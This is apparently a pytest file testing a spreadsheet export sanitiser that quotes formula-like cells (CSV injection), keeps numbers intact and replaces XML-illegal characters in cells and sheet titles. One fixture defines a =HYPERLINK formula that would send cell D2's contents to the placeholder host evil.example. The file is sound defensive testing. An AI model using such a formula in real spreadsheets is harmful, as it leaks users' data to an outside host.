"""Export cells: formulas quoted (OWASP CSV injection), XML-illegal characters replaced."""

import datetime
from decimal import Decimal

import pytest

from renkou.lib.exportcells import safe_cell, safe_text, safe_title

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_quoted(start):
    assert safe_text(f"{start}1+1") == f"'{start}1+1"


def test_the_hyperlink_name_is_quoted():
    assert safe_cell(HYPERLINK) == "'" + HYPERLINK


@pytest.mark.parametrize(
    "value", [-5, -5.5, Decimal("-1.20"), 0, None, True, datetime.date(2020, 1, 1)]
)
def test_numbers_and_other_values_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_ordinary_text_is_unchanged():
    assert safe_text("王建国") == "王建国"
    assert safe_text("a-b") == "a-b"


def test_xml_illegal_characters_are_replaced():
    assert safe_text("张\u000b三") == "张\ufffd三"
    assert safe_text("a\x00b\x1fc") == "a\ufffdb\ufffdc"
    assert safe_text("行\n一\t二") == "行\n一\t二"  # legal in XML


def test_sheet_titles_are_made_acceptable():
    assert safe_title("东门\u000b社区/1栋" * 5) == ("东门社区 1栋" * 5)[:31]
    assert safe_title("\x00", "persons") == "persons"
